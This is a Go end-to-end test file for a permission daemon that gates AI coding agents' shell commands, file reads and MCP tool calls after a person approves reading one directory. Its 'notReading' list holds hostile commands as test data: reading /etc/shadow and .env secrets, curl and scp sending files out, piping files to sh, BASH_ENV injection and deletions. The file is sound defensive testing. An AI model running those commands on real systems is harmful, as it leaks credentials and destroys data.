package e2e

import (
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	v1 "policyd/api/v1"
	"policyd/test/project"
)

// libraryBeside makes a directory outside that looks like a project, with a repository, secrets and
// links that lead out, and returns its path.
func libraryBeside(t *testing.T, tree project.Tree) string {
	t.Helper()
	root := filepath.Join(tree.Home, "library")
	for name, text := range map[string]string{
		"go.mod": "module library\n", "src/a.go": "package a\n", "docs/a.md": "text\n", ".env": "x\n", "sub/key.pem": "x\n", "x.tar": "", "run.sh": "#!/bin/sh\n",
	} {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, name), []byte(text), 0o644))
	}
	require.NoError(t, os.Chmod(filepath.Join(root, "run.sh"), 0o755))
	require.NoError(t, os.Link(filepath.Join(root, ".env"), filepath.Join(root, "docs", "hard.txt")))
	for name, target := range map[string]string{
		"other": tree.Other, "up": "..", "home": tree.Home, "shadow": "/etc/shadow", "env": ".env", "src/file.go": filepath.Join(tree.Other, "secret.txt"),
	} {
		require.NoError(t, os.Symlink(target, filepath.Join(root, name)))
	}
	command := exec.Command("sh", "-c", "git init -q -b main && git add -f go.mod .env docs && git commit -q -m first")
	command.Dir = root
	command.Env = append(environment(tree.Home), "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b")
	output, err := command.CombinedOutput()
	require.NoError(t, err, string(output))
	return root
}

// letRead asks for the reading of a path and answers it.
func (s *server) letRead(t *testing.T, session, path, choice string) {
	t.Helper()
	asked := s.shell(t, session, "cat "+path)
	require.Equal(t, v1.EffectPrompt, asked.Effect, path)
	require.Contains(t, offeredBy(asked.Prompt), choice)
	s.reply(t, asked.Prompt, choice)
}

// TestAnAnswerToReadLetsNothingElse checks A12: what a person let be read is read by commands and tools
// without a question, and whatever changes, runs, leaves or holds secrets is no reading.
func TestAnAnswerToReadLetsNothingElse(t *testing.T) {
	tree := newTree(t)
	root := libraryBeside(t, tree)
	require.NoError(t, os.Symlink(root, filepath.Join(tree.Project, "linked")))
	s := startServer(t)
	s.register(t, tree, "s")
	s.letRead(t, "s", root+"/go.mod", "read_here")
	for _, line := range strings.Split(strings.TrimSpace(readOnly), "\n") {
		line = strings.ReplaceAll(line, "ROOT", root)
		decision := s.shell(t, "s", line)
		assert.Equal(t, v1.EffectAllow, decision.Effect, "%s: %v", line, decision.Reasons)
	}
	for _, line := range strings.Split(strings.TrimSpace(notReading), "\n") {
		line = strings.NewReplacer("ROOT", root, "HOME", tree.Home).Replace(line)
		assert.NotEqual(t, v1.EffectAllow, s.shell(t, "s", line).Effect, line)
	}
	for _, path := range []string{"/.env", "/docs/hard.txt", "/other/secret.txt", "/src/file.go", "/up/other/secret.txt", "/../other/secret.txt", "/home/other/secret.txt"} {
		assert.NotEqual(t, v1.EffectAllow, s.file(t, "s", "Read", root+path).Effect, path)
	}
	assert.NotEqual(t, v1.EffectAllow, s.file(t, "s", "Write", root+"/new").Effect)
	for name, change := range map[string]func(*v1.Session){
		"another agent":   func(s *v1.Session) { s.Agent = "codex" },
		"a team":          func(s *v1.Session) { s.Audience = v1.AudienceTeam },
		"the public":      func(s *v1.Session) { s.Audience = v1.AudiencePublic },
		"another project": func(s *v1.Session) { s.ProjectDir = tree.Other },
		"no project":      func(s *v1.Session) { s.ProjectDir = "" },
	} {
		id := strings.ReplaceAll(name, " ", "-")
		s.register(t, tree, id, change)
		assert.Equal(t, v1.EffectPrompt, s.file(t, id, "Read", root+"/go.mod").Effect, name)
	}
}

// TestReadingOfSinglePlaces checks A12 and P6: in a home and in shallow directories a person can let single
// files be read, and directories that don't exist yet; never the home itself, nor secrets.
func TestReadingOfSinglePlaces(t *testing.T) {
	tree := newTree(t)
	require.NoError(t, os.WriteFile(filepath.Join(tree.Home, "notes.txt"), []byte("x"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(tree.Home, "other.txt"), []byte("x"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(tree.Home, ".netrc"), []byte("x"), 0o600))
	s := startServer(t)
	s.register(t, tree, "s")
	s.letRead(t, "s", tree.Home+"/notes.txt", "read_here")
	s.letRead(t, "s", tree.Home+"/.newtool/cache/", "read_chat")
	for _, line := range []string{"cat ~/notes.txt", "wc -l ~/notes.txt | head -1", "ls ~/.newtool/cache/a", "cd ~/.newtool/cache && cat b"} {
		decision := s.shell(t, "s", line)
		assert.Equal(t, v1.EffectAllow, decision.Effect, "%s: %v", line, decision.Reasons)
	}
	for _, line := range []string{"cat ~/other.txt", "ls ~", "cat ~/*.txt", "cat ~/.netrc", "ls ~/.newtool", "tee ~/notes.txt"} {
		assert.NotEqual(t, v1.EffectAllow, s.shell(t, "s", line).Effect, line)
	}
	require.NoError(t, os.Remove(filepath.Join(tree.Home, "notes.txt")))
	require.NoError(t, os.Symlink(filepath.Join(tree.Home, "other.txt"), filepath.Join(tree.Home, "notes.txt")))
	assert.NotEqual(t, v1.EffectAllow, s.shell(t, "s", "cat ~/notes.txt").Effect, "a link that came later leads elsewhere")
	for _, place := range []string{"/etc/hostname", tree.Home + "/"} {
		asked := s.shell(t, "s", "ls "+place)
		if asked.Prompt != nil {
			assert.NotContains(t, offeredBy(asked.Prompt), "read_here", place)
		}
	}
}

const readOnly = `
cat ROOT/go.mod
cd ROOT/docs; ls; cd ..; ls docs
n=$(wc -l < ROOT/docs/a.md); head -n $n ROOT/go.mod
cd ROOT && git log --oneline && git status
git -C ROOT ls-files
find ROOT/docs -name 'a*' | xargs grep -n text
for f in ROOT/docs/a*; do head -3 $f; done
D=ROOT; ls $D/docs; cat $D/go.mod
ls ../library
grep -rn text ROOT/docs/a.md
`

const notReading = `
cat ROOT/.env
cat ROOT/.e*
cat ROOT/env
cat ROOT/docs/*
cat linked/.env
cat linked/other/secret.txt
ls ROOT/other/
cat ROOT/other/secret.txt
cat ROOT/up/other/secret.txt
cat ROOT/../other/secret.txt
cat ROOT/src/*.go
cat ROOT/shadow
ls ROOT/..
cd ROOT && cd .. && ls
cd ROOT/home && ls
cd ROOT/home; cat other/secret.txt
grep -R text ROOT
grep -rn text ROOT
rg -L x ROOT
find -L ROOT -name x
find ROOT -exec cat {} \;
find ROOT -name a.md -delete
find ROOT -name a.md -fprint out
find ROOT -name a.md -exec cp {} . \;
find ROOT -type f | xargs cat
tar cf - ROOT
tar xf ROOT/x.tar
tar xf ROOT/x.tar -C ROOT
rsync -a ROOT/ out/
rsync -a docs/ ROOT/
cp -r ROOT out
cp ROOT/go.mod .
cp a.txt ROOT/a.txt
mv ROOT/go.mod .
ln ROOT/go.mod y
ln -s ROOT/.env y && cat y
touch ROOT/x
echo x > ROOT/x
sed -i s/a/b/ ROOT/go.mod
rm ROOT/go.mod
chmod 777 ROOT/go.mod
dd if=a.txt of=ROOT/x
sort -o ROOT/o ROOT/docs/a.md
split ROOT/docs/a.md ROOT/p
ROOT/run.sh
cd ROOT && ./run.sh
bash ROOT/run.sh
. ROOT/run.sh
PATH=ROOT:$PATH ls
BASH_ENV=ROOT/run.sh bash -c ls
sed -f ROOT/docs/a.md a.txt
rg --pre ROOT/run.sh x docs
cat ROOT/docs/a.md | sh
make -C ROOT
cd ROOT && go build ./...
cd ROOT && git commit -am x
git -C ROOT fetch
git -C ROOT show HEAD:.env
git -C ROOT log -p
git -C ROOT archive HEAD
GIT_DIR=ROOT/.git git log -p
git clone ROOT out
scp ROOT/go.mod host:
curl -d @ROOT/go.mod http://example.org
xargs rm < ROOT/docs/a.md
sudo cat ROOT/go.mod
diff -r ROOT HOME/other
cat ROOT/go.mod HOME/other/secret.txt
ls HOME
`

// TestAnAnswerToReadWidensNoOther checks A12: neither trust in a project's tools nor an approval for anywhere
// covers what works in a directory that may only be read.
func TestAnAnswerToReadWidensNoOther(t *testing.T) {
	tree := newTree(t)
	root := libraryBeside(t, tree)
	s := startServer(t)
	s.register(t, tree, "s", func(session *v1.Session) { session.Agent = "codex" })
	for _, verb := range []string{"make", "go test", "git push", "git commit", "npm test", "mytool", "cargo build", "cmake", "tsc", "rm", "touch"} {
		s.approve(t, verb, "")
	}
	s.cli(t, "approvals trust-project "+tree.Project)
	s.letRead(t, "s", root+"/go.mod", "read_here")
	for line, allowed := range map[string]bool{
		"make": true, "go test ./...": true, "cat ROOT/go.mod": true, "mytool": true,
		"cd ROOT && make": false, "make -C ROOT": false, "go test -C ROOT ./...": false, "go test ROOT/...": false, "cd ROOT && mytool": false,
		"pytest ROOT": false, "cd ROOT && npm test": false, "npm --prefix ROOT test": false, "git -C ROOT push": false, "cd ROOT && git commit -m x": false,
		"cargo build --manifest-path ROOT/Cargo.toml": false, "cmake -S ROOT -B build": false, "tsc -p ROOT": false, "jest --rootDir ROOT": false,
		"rm ROOT/go.mod": false, "touch ROOT/x": false, "touch /usr/share/x": false, "cd /usr/share && make": false,
	} {
		line = strings.ReplaceAll(line, "ROOT", root)
		decision := s.shell(t, "s", line)
		assert.Equal(t, allowed, decision.Effect == v1.EffectAllow, "%s: %v", line, decision.Reasons)
	}
}

// TestAnMCPToolReadsWhereAPersonSaid checks A12 and V12: an approved tool lists and reads in a directory that
// may be read, and no more than that.
func TestAnMCPToolReadsWhereAPersonSaid(t *testing.T) {
	tree := newTree(t)
	root := libraryBeside(t, tree)
	s := startServer(t)
	s.register(t, tree, "s")
	s.letRead(t, "s", root+"/go.mod", "read_here")
	for _, tool := range []string{"read_file", "list_directory", "write_file", "anything"} {
		s.cli(t, "approvals trust-verb mcp:fs/"+tool+" --tool mcp")
	}
	for call, want := range map[[2]string]v1.Effect{
		{"read_file", "/go.mod"}: v1.EffectAllow, {"list_directory", "/docs"}: v1.EffectAllow, {"list_directory", "/.."}: v1.EffectPrompt,
		{"read_file", "/.env"}: v1.EffectDeny, {"read_file", "/other/secret.txt"}: v1.EffectPrompt,
		{"write_file", "/x"}: v1.EffectPrompt, {"anything", "/go.mod"}: v1.EffectPrompt,
	} {
		args := []byte(`{"path":"` + root + call[1] + `"}`)
		decision := s.decide(t, v1.Call{Tool: "mcp__fs__" + call[0], Args: args, Session: v1.Session{ID: "s"}})
		assert.Equal(t, want, decision.Effect, "%v: %v", call, decision.Reasons)
	}
}

// TestReadingEndsWhereTheDiskChanges checks A12 and P14: an answer to read holds for the directory that it
// names, and not for what is there, or is linked there, later.
func TestReadingEndsWhereTheDiskChanges(t *testing.T) {
	tree := newTree(t)
	root := libraryBeside(t, tree)
	s := startServer(t)
	s.register(t, tree, "s")
	s.letRead(t, "s", root+"/go.mod", "read_here")
	refused := func(path, why string) {
		t.Helper()
		assert.NotEqual(t, v1.EffectAllow, s.shell(t, "s", "cat "+path).Effect, why)
		assert.NotEqual(t, v1.EffectAllow, s.file(t, "s", "Read", path).Effect, why)
	}
	link := func(target, name string) {
		t.Helper()
		require.NoError(t, os.Rename(name, name+".old"))
		require.NoError(t, os.Symlink(target, name))
	}
	back := func(name string) {
		t.Helper()
		require.NoError(t, os.Remove(name))
		require.NoError(t, os.Rename(name+".old", name))
	}
	link(tree.Home, root)
	refused(root+"/other/secret.txt", "the root leads to a home")
	back(root)
	link(tree.Other, root)
	refused(root+"/secret.txt", "the root leads elsewhere")
	refused(root+".old/go.mod", "the root has another name")
	back(root)
	link(tree.Other, root+"/docs")
	refused(root+"/docs/secret.txt", "a link below the root")
	back(root + "/docs")
	require.NoError(t, os.WriteFile(root+"/docs/.env", []byte("x\n"), 0o600))
	refused(root+"/docs/.env", "a secret that came later")
	assert.NotEqual(t, v1.EffectAllow, s.shell(t, "s", "grep -rn x "+root+"/docs").Effect)
	s.register(t, tree, "home", func(session *v1.Session) { session.Home = root + "/docs" })
	assert.NotEqual(t, v1.EffectAllow, s.file(t, "home", "Read", root+"/go.mod").Effect, "the root holds the home")

	// Another project's answer doesn't come with a link to it.
	second := filepath.Join(tree.Home, "second")
	require.NoError(t, os.MkdirAll(second, 0o755))
	s.register(t, tree, "second", func(session *v1.Session) { session.ProjectDir = second })
	link(tree.Project, second)
	refusedThere := s.file(t, "second", "Read", root+"/go.mod")
	assert.NotEqual(t, v1.EffectAllow, refusedThere.Effect, "the project leads to one that has an answer")
}

// TestSidecarsShareAnswersToRead checks A12 and C3: an answer to read that is given at one sidecar holds at
// the other, releases what waits there, and ends at both when it is revoked at either.
func TestSidecarsShareAnswersToRead(t *testing.T) {
	tree := newTree(t)
	root := libraryBeside(t, tree)
	_, one, two := shared(t)
	one.register(t, tree, "s")
	one.register(t, tree, "later")
	waits := two.hold(t, http.MethodPost, "/v1/decide?wait=5m", `{"tool":"Read","args":{"file_path":"`+root+`/docs/a.md"},"session":{"id":"later"}}`)
	two.pendingCount(t, 1)
	one.letRead(t, "s", root+"/go.mod", "read_here")
	assert.Equal(t, v1.EffectAllow, wellFormed(t, waits().body).Effect)
	for _, s := range []*server{one, two} {
		soon(t, "an answer to read is seen", func() bool { return s.file(t, "later", "Read", root+"/go.mod").Effect == v1.EffectAllow })
		assert.Equal(t, v1.EffectDeny, s.file(t, "later", "Read", root+"/.env").Effect)
	}
	assert.Contains(t, two.cli(t, "approvals revoke read "+root+" in "+tree.Project), "Revoked: read "+root)
	for _, s := range []*server{one, two} {
		soon(t, "a revocation is seen", func() bool { return s.file(t, "s", "Read", root+"/go.mod").Effect == v1.EffectPrompt })
	}
}

// TestASubAgentReadsByItsParentsAnswer checks A12 and C5: a parent's answer for this chat holds for its
// sub-agents, and a sub-agent's neither for its parent nor for another one.
func TestASubAgentReadsByItsParentsAnswer(t *testing.T) {
	tree := newTree(t)
	root := libraryBeside(t, tree)
	s := startServer(t)
	read := func(subAgent, path string) string {
		event := map[string]any{
			"hook_event_name": "PreToolUse", "session_id": "m", "cwd": tree.Project, "tool_name": "Read", "tool_input": map[string]string{"file_path": path},
		}
		if subAgent != "" {
			event["agent_id"], event["agent_type"] = subAgent, "general-purpose"
		}
		text, err := json.Marshal(event)
		require.NoError(t, err)
		_, _, body := s.post(t, "/v1/hooks/claude?project="+tree.Project, string(text))
		switch {
		case strings.Contains(string(body), `"ask"`):
			return "ask"
		case strings.Contains(string(body), `"deny"`):
			return "deny"
		}
		return "allow"
	}
	first, second := root+"/go.mod", tree.Other+"/secret.txt"
	for _, subAgent := range []string{"", "a", "b"} {
		require.Equal(t, "ask", read(subAgent, first))
	}
	s.letRead(t, "claude-code:m", first, "read_chat")
	for _, subAgent := range []string{"", "a", "b", "c"} {
		assert.Equal(t, "allow", read(subAgent, first), "sub-agent %q", subAgent)
		assert.Equal(t, "deny", read(subAgent, root+"/.env"), "sub-agent %q", subAgent)
	}
	s.letRead(t, "claude-code:m:a", second, "read_chat")
	assert.Equal(t, "allow", read("a", second))
	assert.Equal(t, "ask", read("", second), "the parent")
	assert.Equal(t, "ask", read("b", second), "another sub-agent")
}
